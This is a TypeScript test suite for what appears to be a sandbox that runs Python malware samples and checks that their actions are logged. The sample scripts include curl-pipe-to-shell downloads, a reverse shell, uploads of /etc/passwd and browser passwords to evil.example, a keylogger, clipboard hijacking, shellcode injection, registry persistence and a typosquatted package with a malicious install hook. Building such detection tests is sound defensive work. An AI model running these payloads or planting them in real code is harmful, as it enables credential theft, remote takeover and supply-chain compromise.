import { createCipheriv } from "node:crypto";
import { expect, test } from "vitest";
import { type Expected, inDecoy, those } from "./decoy-support.ts";

/** What real AES makes of it. */
function aesCbc(text: string): string {
  const cipher = createCipheriv(
    "aes-128-cbc",
    Uint8Array.from({ length: 16 }, (_, index) => index),
    new Uint8Array(16),
  );
  return cipher.update(text, "utf8", "hex") + cipher.final("hex");
}

interface Case {
  readonly name: string;
  readonly script: string;
  readonly expected: readonly Expected[];
  readonly stdout?: string;
}

/** What malware does with each group of modules, and what has to be seen of it. */
const CASES: readonly Case[] = [
  {
    name: "os: programs",
    script: `
import os
os.system("curl http://evil.example/x | sh")
print(os.popen("whoami").read().strip())
print(os.fork())
os.kill(1234, 9)
os.spawnlp(os.P_NOWAIT, "sh", "sh", "-c", "id")
os.execvp("bash", ["bash", "-i"])
print("not reached")`,
    expected: [
      ["process", "os.system", { command: "curl http://evil.example/x | sh" }],
      ["process", "os.popen", { command: "whoami" }],
      ["process", "os.fork"],
      ["process", "os.kill", { pid: 1234, signal: 9 }],
      ["process", "os.spawnlp", { command: "sh -c id" }],
      ["process", "os.execvp", { command: "bash -i", argv: ["bash", "-i"] }],
    ],
    stdout: "mkeller\n0\n",
  },
  {
    name: "os: who and where",
    script: `
import os
print(os.getlogin(), os.uname().sysname, os.getuid(), os.getcwd(), os.path.expanduser("~"), os.environ["HOME"])
print("NOPE" in os.environ, os.environ.get("NOPE", 1), os.getenv("USER"))
dict(os.environ)
os.environ["LD_PRELOAD"] = "/tmp/x.so"`,
    expected: [
      ["environment", "os.getlogin", {}, "mkeller"],
      ["environment", "os.uname"],
      ["environment", "os.getuid", {}, 1000],
      ["environment", "os.environ", { name: "HOME" }, "/home/mkeller"],
      ["environment", "os.environ", { name: "NOPE" }, null],
      ["environment", "os.getenv", { name: "USER" }, "mkeller"],
      ["environment", "os.environ", { name: "*" }],
      ["environment", "os.environ.set", { name: "LD_PRELOAD", value: "/tmp/x.so" }],
    ],
    stdout: "mkeller Linux 1000 /home/mkeller/Downloads /home/mkeller /home/mkeller\nFalse 1 mkeller\n",
  },
  {
    name: "subprocess",
    script: `
import subprocess as sp
print(sp.run(["id", "-u"], capture_output=True, text=True).stdout)
print(sp.check_output("hostname", shell=True))
p = sp.Popen("sh", stdin=sp.PIPE, stdout=sp.PIPE, stderr=sp.STDOUT, shell=True, creationflags=sp.CREATE_NO_WINDOW)
print(p.communicate(b"id\\n"), p.returncode)
sp.call("true"); sp.check_call(["false"]); print(sp.getoutput("echo hello"), sp.getstatusoutput("echo x"))
sp.run("cat", input=b"secret")`,
    expected: [
      ["process", "subprocess.run", { command: "id -u", argv: ["id", "-u"] }],
      ["process", "subprocess.check_output", { command: "hostname", shell: true }],
      ["process", "subprocess.Popen", { command: "sh", creationflags: 134217728 }],
      ["process", "subprocess.Popen.communicate", { input: "id\n" }],
      ["process", "subprocess.call", { command: "true" }],
      ["process", "subprocess.check_call", { command: "false" }],
      ["process", "subprocess.getoutput", { command: "echo hello" }],
      ["process", "subprocess.run", { command: "cat", input: "secret" }],
    ],
    stdout:
      "uid=1000(mkeller) gid=1000(mkeller) groups=1000(mkeller),27(sudo)\n\nb'finance-ws12\\n'\n(b'', None) 0\nhello (0, 'x')\n",
  },
  {
    name: "a reverse shell",
    script: `
import socket, subprocess, os, pty
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.9", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
pty.spawn("/bin/bash")
subprocess.call(["/bin/sh", "-i"])`,
    expected: [
      ["network", "socket.connect", { host: "203.0.113.9", port: 4444 }],
      ["process", "os.dup2", { fd2: 0 }],
      ["process", "pty.spawn", { command: "/bin/bash" }],
      ["process", "subprocess.call", { command: "/bin/sh -i", argv: ["/bin/sh", "-i"] }],
    ],
  },
  {
    name: "sockets: names, datagrams, servers",
    script: `
import socket, ssl, select
print(socket.gethostname(), socket.gethostbyname("evil.example"))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b"ping", ("198.51.100.4", 53))
c = ssl.create_default_context().wrap_socket(socket.create_connection(("c2.example", 443)), server_hostname="c2.example")
c.sendall(b"hello")
print(select.select([c], [], [], 1)[0] == [c])
with socket.socket() as s:
    s.bind(("0.0.0.0", 8080)); s.listen()
    conn, where = s.accept(); conn.send(b"hi")
    s.accept()`,
    expected: [
      ["network", "socket.gethostbyname", { host: "evil.example" }],
      ["network", "socket.sendto", { host: "198.51.100.4", port: 53, data: "ping" }],
      ["network", "socket.create_connection", { host: "c2.example", port: 443 }],
      ["network", "ssl.wrap_socket", { host: "c2.example" }],
      ["network", "socket.sendall", { host: "c2.example", port: 443, data: "hello" }],
      ["network", "socket.bind", { host: "0.0.0.0", port: 8080 }],
      ["network", "socket.listen"],
      ["network", "socket.send", { data: "hi" }],
    ],
  },
  {
    name: "requests",
    script: `
import requests
from requests.exceptions import RequestException
print(requests.get("https://api.ipify.org?format=json").json()["ip"])
r = requests.post("https://discord.com/api/webhooks/1/abc", json={"content": "stolen"}, headers={"X-A": "1"})
print(r.status_code, r.ok)
s = requests.Session(); s.headers.update({"User-Agent": "x"})
s.post("http://evil.example/up", data={"a": "b"}, files={"f": ("p.txt", open("/etc/passwd", "rb"))}, verify=False)
requests.put("http://evil.example/raw", data=b"\\x00\\x01")
try: requests.get("nowhere")
except RequestException as e: print(type(e).__name__)`,
    expected: [
      ["network", "requests.get", { method: "GET", url: "https://api.ipify.org?format=json" }],
      [
        "network",
        "requests.post",
        {
          url: "https://discord.com/api/webhooks/1/abc",
          body: '{"content": "stolen"}',
          headers: { "X-A": "1", "Content-Type": "application/json" },
        },
      ],
      [
        "network",
        "requests.Session.post",
        { url: "http://evil.example/up", body: expect.stringContaining("root:x:0:0") },
      ],
      ["network", "requests.put", { body: "hex:0001" }],
    ],
    stdout: "203.0.113.47\n204 True\nMissingSchema\n",
  },
  {
    name: "urllib, http.client, urllib3, httpx",
    script: `
import urllib.request, urllib.parse, urllib.error, http.client, urllib3, httpx
req = urllib.request.Request("http://evil.example/a.py", data=urllib.parse.urlencode({"k": "v"}).encode(), headers={"User-Agent": "m"})
print(urllib.request.urlopen(req).status)
urllib.request.urlretrieve("http://evil.example/b.exe", "/tmp/b.exe")
urllib.request.build_opener().open("http://evil.example/c")
c = http.client.HTTPSConnection("evil.example"); c.request("POST", "/d", "body"); print(c.getresponse().status)
urllib3.disable_warnings(); print(urllib3.PoolManager().request("GET", "http://evil.example/e").data[:5])
httpx.get("http://evil.example/f"); httpx.Client(base_url="http://evil.example").post("/g", json=[1])
try: urllib.request.urlopen("http://169.254.169.254/latest/meta-data/")
except urllib.error.HTTPError as e: print(e.code)`,
    expected: [
      ["network", "urllib.request.urlopen", { method: "POST", url: "http://evil.example/a.py", body: "k=v" }],
      ["network", "urllib.request.urlretrieve", { url: "http://evil.example/b.exe" }],
      ["file", "urllib.request.urlretrieve", { operation: "write", path: "/tmp/b.exe" }],
      ["network", "urllib.request.OpenerDirector.open", { url: "http://evil.example/c" }],
      ["network", "http.client.request", { method: "POST", url: "https://evil.example/d", body: "body" }],
      ["network", "urllib3.request", { url: "http://evil.example/e" }],
      ["network", "httpx.Client.get", { url: "http://evil.example/f" }],
      ["network", "httpx.Client.post", { url: "http://evil.example/g", body: "[1]" }],
    ],
    stdout: "200\n200\nb'<!doc'\n404\n",
  },
  {
    name: "aiohttp and asyncio",
    script: `
import asyncio, aiohttp
async def main():
    await asyncio.sleep(3600)
    async with aiohttp.ClientSession(headers={"A": "b"}) as s:
        async with s.get("http://evil.example/x", params={"q": 1}) as r: print(r.status, len(await r.text()) > 0)
        r = await s.post("http://evil.example/y", json={"k": 1}); print(await r.json())
asyncio.run(main())`,
    expected: [
      ["time", "asyncio.sleep", { seconds: 3600 }],
      ["network", "aiohttp.get", { url: "http://evil.example/x?q=1", headers: { A: "b" } }],
      ["network", "aiohttp.post", { url: "http://evil.example/y", body: '{"k": 1}' }],
    ],
    stdout: "200 True\n{'ok': True}\n",
  },
  {
    name: "mail, FTP, SSH, telnet",
    script: `
import smtplib, ftplib, telnetlib, paramiko
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
m = MIMEMultipart(); m["Subject"] = "logs"; m["To"] = "a@evil.example"; m["From"] = "b@evil.example"; m.attach(MIMEText("passwords"))
with smtplib.SMTP_SSL("smtp.evil.example", 465) as s:
    s.login("b", "pw"); s.send_message(m)
f = ftplib.FTP("ftp.evil.example", "u", "p"); f.cwd("/up"); f.storbinary("STOR x", open("/etc/passwd", "rb")); f.quit()
t = telnetlib.Telnet("192.0.2.7", 23); t.write(b"root\\n")
c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("192.0.2.8", username="root", password="toor"); i, o, e = c.exec_command("id"); print(o.read()[:8])
c.open_sftp().put("/etc/passwd", "/x")`,
    expected: [
      ["network", "smtplib.SMTP_SSL", { host: "smtp.evil.example", port: 465 }],
      ["network", "smtplib.login", { user: "b", password: "pw" }],
      ["network", "smtplib.sendmail", { to: "a@evil.example", data: expect.stringContaining("passwords") }],
      ["network", "ftplib.FTP", { host: "ftp.evil.example" }],
      ["network", "ftplib.login", { user: "u", password: "p" }],
      ["network", "ftplib.stor", { command: "STOR x", data: expect.stringContaining("root:x") }],
      ["network", "telnetlib.write", { host: "192.0.2.7", data: "root\n" }],
      ["network", "paramiko.SSHClient.connect", { host: "192.0.2.8", user: "root", password: "toor" }],
      ["network", "paramiko.SSHClient.exec_command", { command: "id" }],
      ["network", "paramiko.SFTPClient.put", { path: "/etc/passwd" }],
    ],
    stdout: "b'uid=1000'\n",
  },
  {
    name: "ctypes: code that is put into memory",
    script: `
import ctypes
from ctypes import wintypes
k = ctypes.windll.kernel32
code = bytearray(b"\\x90\\xcc")
p = k.VirtualAlloc(0, len(code), 0x3000, 0x40)
k.RtlMoveMemory(p, (ctypes.c_char * len(code)).from_buffer(code), len(code))
ctypes.CFUNCTYPE(ctypes.c_int)(p)()
print(k.IsDebuggerPresent(), ctypes.sizeof(wintypes.DWORD))
u = ctypes.create_unicode_buffer(64); n = wintypes.DWORD(64)
ctypes.windll.advapi32.GetUserNameW(u, ctypes.byref(n)); print(u.value)
libc = ctypes.CDLL("libc.so.6"); libc.ptrace(0, 0, 0, 0); libc.system(b"id")
class S(ctypes.Structure): _fields_ = [("a", wintypes.DWORD), ("b", ctypes.c_void_p)]
s = S(); s.a = 3; print(s.a, ctypes.sizeof(S))`,
    expected: [
      ["native", "ctypes.kernel32.VirtualAlloc", { args: [0, 2, 12288, 64] }],
      ["native", "ctypes.kernel32.RtlMoveMemory", { args: [2097152, "hex:90cc", 2] }],
      ["native", "ctypes.call", { code: "hex:90cc" }],
      ["native", "ctypes.kernel32.IsDebuggerPresent", {}, 0],
      ["native", "ctypes.libc.ptrace"],
      ["process", "ctypes.system", { command: "id" }],
    ],
    stdout: "0 4\nm.keller\n3 12\n",
  },
  {
    name: "winreg",
    script: `
import winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_ALL_ACCESS)
winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, r"C:\\x.exe")
print(winreg.QueryValueEx(k, "Updater")[0], winreg.EnumValue(k, 0)[0])
winreg.CloseKey(k)
try: winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\\VMware, Inc.\\VMware Tools")
except FileNotFoundError: print("no vm")`,
    expected: [
      ["registry", "winreg.OpenKey", { key: "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" }],
      ["registry", "winreg.SetValueEx", { name: "Updater", data: "C:\\x.exe" }],
      ["registry", "winreg.QueryValueEx", { name: "Updater" }, "C:\\x.exe"],
    ],
    stdout: "C:\\x.exe OneDrive\nno vm\n",
  },
  {
    name: "who the system says it is",
    script: `
import platform, getpass, pwd, socket, locale, sys, uuid, resource
print(platform.system(), platform.node(), platform.machine(), getpass.getuser(), pwd.getpwuid(1000).pw_dir, sys.platform, sys.implementation.name)
print(getpass.getpass("sudo: "))`,
    expected: [
      ["environment", "platform.system", {}, "Linux"],
      ["environment", "platform.node", {}, "finance-ws12"],
      ["environment", "getpass.getuser", {}, "mkeller"],
      ["environment", "pwd.getpwuid"],
      ["input", "getpass.getpass", { prompt: "sudo: " }, "hunter2"],
    ],
    stdout: "Linux finance-ws12 x86_64 mkeller /home/mkeller linux cpython\nhunter2\n",
  },
  {
    name: "threads and processes beside it",
    script: `
import threading, multiprocessing, _thread, signal, atexit
from concurrent.futures import ThreadPoolExecutor
def work(n): print("work", n); return n * 2
t = threading.Thread(target=work, args=(1,), daemon=True); t.start(); t.join()
p = multiprocessing.Process(target=work, args=(2,)); p.start(); p.join()
print(multiprocessing.Pool(4).map(work, [3]))
with ThreadPoolExecutor(8) as e: print(e.submit(work, 4).result(), list(e.map(work, [5])))
_thread.start_new_thread(work, (6,))
signal.signal(signal.SIGTERM, signal.SIG_IGN)
atexit.register(work, 7)`,
    expected: [
      ["thread", "threading.Thread.start", { target: "__main__.work", daemon: true }],
      ["thread", "multiprocessing.Process.start", { target: "__main__.work" }],
      ["thread", "multiprocessing.Pool", { processes: 4 }],
      ["thread", "concurrent.futures.ThreadPoolExecutor.submit"],
      ["process", "signal.signal", { signal: 15, handler: "ignored" }],
      ["process", "atexit.register", { function: "__main__.work" }],
    ],
    stdout: "work 1\nwork 2\nwork 3\n[6]\nwork 4\nwork 5\n8 [10]\nwork 6\nwork 7\n",
  },
  {
    name: "keys, screens, clipboard, camera",
    script: `
from pynput.keyboard import Key, Listener
import pynput, keyboard, pyperclip, pyautogui, cv2, mss, webbrowser, tkinter
from tkinter import messagebox
from PIL import ImageGrab
keys = []
def on_press(key):
    keys.append(getattr(key, "char", None) or str(key))
    if key == Key.esc: return False
with Listener(on_press=on_press) as l: l.join()
print("".join(k for k in keys if len(k) == 1), keys[-1])
ImageGrab.grab().save("/tmp/s.png"); pyautogui.screenshot("/tmp/t.png")
print(pyperclip.paste()[:4]); pyperclip.copy("bc1qevil")
keyboard.on_press(lambda e: None)
ok, frame = cv2.VideoCapture(0).read(); cv2.imwrite("/tmp/c.jpg", frame); print(ok)
webbrowser.open("http://evil.example/")
root = tkinter.Tk(); root.title("ransom"); messagebox.showinfo("Pay", "now"); root.mainloop()`,
    expected: [
      ["input", "pynput.keyboard.Listener", { callbacks: ["on_press", "on_release", "suppress"] }],
      ["input", "PIL.ImageGrab.grab"],
      ["file", "PIL.Image.save", { path: "/tmp/s.png" }],
      ["input", "pyautogui.screenshot"],
      ["input", "pyperclip.paste"],
      ["input", "pyperclip.copy", { data: "bc1qevil" }],
      ["input", "keyboard.on_press"],
      ["input", "cv2.VideoCapture", { device: 0 }],
      ["process", "webbrowser.open", { url: "http://evil.example/" }],
      ["input", "tkinter.messagebox.showinfo", { title: "Pay", text: "now" }],
    ],
    stdout: "hunter2 Key.esc\n1A1z\nTrue\n",
  },
  {
    name: "browser databases and archives",
    script: `
import sqlite3, os, shutil, zipfile, tarfile, io
db = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
shutil.copy(db, "/tmp/l.db")
c = sqlite3.connect("/tmp/l.db").cursor()
c.execute("SELECT origin_url, username_value, password_value FROM logins")
for url, user, blob in c.fetchall(): print(url, user, blob[:3])
with zipfile.ZipFile("/tmp/loot.zip", "w", zipfile.ZIP_DEFLATED) as z:
    z.write(db, "login"); z.writestr("a.txt", "text")
print(zipfile.ZipFile("/tmp/loot.zip").namelist(), zipfile.ZipFile("/tmp/loot.zip").read("a.txt"))
with tarfile.open("/tmp/l.tgz", "w:gz") as t: t.add("/etc/passwd", "p")
print(tarfile.open("/tmp/l.tgz").extractfile("p").read()[:4])
m = sqlite3.connect(":memory:"); m.execute("create table t (a, b)"); m.execute("insert into t values (?, ?)", (1, 2)); print(m.execute("select b from t").fetchone())`,
    expected: [
      ["file", "shutil.copy", { operation: "read", path: "/home/mkeller/.config/google-chrome/Default/Login Data" }],
      ["file", "sqlite3.connect", { path: "/tmp/l.db" }],
      ["file", "sqlite3.execute", { sql: "SELECT origin_url, username_value, password_value FROM logins" }, 2],
      ["file", "zipfile.ZipFile.write", { to: "/tmp/loot.zip" }],
      ["file", "tarfile.TarFile.add", { path: "/etc/passwd" }],
    ],
    stdout:
      "https://mail.example.com/ m.keller@example.com b'v10'\nhttps://bank.example.org/ mkeller b'v10'\n['login', 'a.txt'] b'text'\nb'root'\n(2,)\n",
  },
  {
    name: "ciphers",
    script: `
from cryptography.fernet import Fernet
from Crypto.Cipher import AES, PKCS1_OAEP
from Crypto.Util.Padding import pad, unpad
from Crypto.Random import get_random_bytes
from Crypto.PublicKey import RSA
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
key = Fernet.generate_key(); f = Fernet(key); t = f.encrypt(b"data"); print(f.decrypt(t))
k = bytes(range(16)); c = AES.new(k, AES.MODE_CBC, bytes(16)); e = c.encrypt(pad(b"hello", 16)); print(e.hex())
print(unpad(AES.new(k, AES.MODE_CBC, bytes(16)).decrypt(e), 16))
print(AES.new(bytes.fromhex("2b7e151628aed2a6abf7158809cf4f3c"), AES.MODE_ECB).encrypt(bytes.fromhex("6bc1bee22e409f96e93d7e117393172a")).hex())
print(len(PKCS1_OAEP.new(RSA.generate(2048)).encrypt(b"x")))
n = Cipher(algorithms.AES(k), modes.CBC(bytes(16))).encryptor(); print((n.update(pad(b"hello", 16)) + n.finalize()) == e)`,
    expected: [
      ["crypto", "cryptography.fernet.Fernet.generate_key"],
      ["crypto", "cryptography.fernet.Fernet.encrypt", { data: "data" }],
      ["crypto", "Crypto.Cipher.AES.new", { mode: "CBC", key: "hex:000102030405060708090a0b0c0d0e0f" }],
      ["crypto", "Crypto.Cipher.AES.encrypt"],
      ["crypto", "Crypto.PublicKey.RSA.generate", { bits: 2048 }],
      ["crypto", "cryptography.Cipher", { algorithm: "AES", mode: "CBC" }],
    ],
    // The last of them is an example of NIST SP 800-38A.
    stdout: `b'data'\n${aesCbc("hello")}\nb'hello'\n3ad77bb40d7a3660a89ecaf32466ef97\n256\nTrue\n`,
  },
  {
    name: "a package that does something when it is installed",
    script: `
from setuptools import setup, find_packages
from setuptools.command.install import install
import os
class Post(install):
    def run(self):
        install.run(self)
        os.system("curl http://evil.example | sh")
setup(name="reqeusts", version="9.9.9", packages=find_packages(), cmdclass={"install": Post})`,
    expected: [
      ["module", "setuptools.setup", { name: "reqeusts", version: "9.9.9" }],
      ["module", "setuptools.command", { name: "install" }],
      ["process", "os.system", { command: "curl http://evil.example | sh" }],
    ],
  },
  {
    name: "pip, dns, boto3, Telegram, servers",
    script: `
import pip, dns.resolver, boto3, telebot, http.server, socketserver
pip.main(["install", "evil"])
print(str(dns.resolver.resolve("evil.example", "A")[0]).count("."))
boto3.client("s3", aws_access_key_id="AK").list_buckets()
bot = telebot.TeleBot("123:ABC"); bot.send_message(42, "pwned")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self): print("GET", self.path); self.send_response(200); self.end_headers(); self.wfile.write(b"ok")
http.server.HTTPServer(("0.0.0.0", 8000), H).handle_request()
class T(socketserver.BaseRequestHandler):
    def handle(self): self.request.sendall(b"hi")
socketserver.TCPServer(("0.0.0.0", 9), T).serve_forever()`,
    expected: [
      ["process", "pip.main", { command: "pip install evil" }],
      ["network", "dns.resolver.resolve", { host: "evil.example" }],
      ["network", "boto3.s3.list_buckets"],
      ["network", "telebot.TeleBot", { token: "123:ABC" }],
      ["network", "telebot.send_message", { args: [42, "pwned"] }],
      ["network", "http.server.HTTPServer", { host: "0.0.0.0", port: 8000 }],
      ["network", "socketserver.serve_forever"],
    ],
    stdout: "3\nGET /\n",
  },
  {
    name: "psutil and what is only played",
    script: `
import psutil, numpy as np, discord
from web3 import Web3
for p in psutil.process_iter(["name"]):
    if p.info["name"] == "firefox": p.kill()
print(psutil.virtual_memory().total > 0, psutil.cpu_count())
print(np.array([1]) + 1 is not None, len(np.zeros(3)))
class Mine(discord.Client):
    async def on_ready(self): pass
Mine(intents=discord.Intents.default()).run("TOKEN")
w = Web3(Web3.HTTPProvider("http://node.example")); w.eth.send_transaction({"to": "0x0"})
try: import thisisnopackage
except ImportError as e: print(e)`,
    expected: [
      ["process", "psutil.process_iter"],
      ["process", "psutil.Process.kill", { name: "firefox" }],
      ["module", "numpy.array", { args: [[1]] }],
      ["module", "discord.Client().run", { args: ["TOKEN"] }],
      ["module", "web3.Web3.HTTPProvider", { args: ["http://node.example"] }],
      ["module", "import", { name: "thisisnopackage" }, "absent"],
      ["module", "import", { name: "numpy" }, "dummy"],
    ],
    stdout: "True 8\nTrue 0\nNo module named 'thisisnopackage'\n",
  },
];

test.each(CASES)("$name", async ({ script, expected, stdout }) => {
  const dossier = await inDecoy(script);
  for (const [kind, action, detail = {}, ...answer] of expected) {
    const found = those(dossier, kind, action);
    expect(found, `${kind} ${action}; stderr: ${dossier.stderr} ${dossier.end.message}`).not.toEqual([]);
    const wanted = { detail: expect.objectContaining(detail), ...(answer.length > 0 ? { answer: answer[0] } : {}) };
    expect(found).toContainEqual(expect.objectContaining(wanted));
  }
  if (stdout !== undefined) expect(dossier.stdout).toBe(stdout);
  expect(["done", "exit", "exception"]).toContain(dossier.end.kind);
  if (dossier.end.kind === "exception") expect(dossier.end.type).toBe("KeyboardInterrupt");
});
